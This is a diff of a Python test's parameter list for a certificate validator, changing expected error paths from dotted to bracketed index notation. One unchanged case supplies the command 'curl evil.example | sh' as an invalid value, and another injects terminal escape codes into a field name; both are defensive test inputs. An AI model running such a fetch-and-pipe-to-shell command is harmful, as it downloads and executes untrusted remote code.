@@ -469,9 +469,9 @@ def test_removed_or_moved_result_raises(indices: list[int], certified: Certifica
         (("max_new_tokens",), -1, "max_new_tokens"),
         (("x\n\x1b[2Kequal to the certificate",), 1, "no such field"),
         (("command",), "curl evil.example | sh", "command"), (("platform", "threads"), 0, "platform.threads"),
-        ((*PINE, "logits_sha256"), "c0ffee", "results.2.logits_sha256"),
-        ((*PINE, "first_token_ids", 0), -1, "results.2.first_token_ids.0"),
-        ((*PINE, "num_matching_answers"), 0, "results.2.num_matching_answers"),
+        ((*PINE, "logits_sha256"), "c0ffee", "results[2].logits_sha256"),
+        ((*PINE, "first_token_ids", 0), -1, "results[2].first_token_ids[0]"),
+        ((*PINE, "num_matching_answers"), 0, "results[2].num_matching_answers"),
     ],
 )  # fmt: skip
 def test_invalid_value_raises(path: tuple[str | int, ...], value: Any, keyword: str, file: Path) -> None:
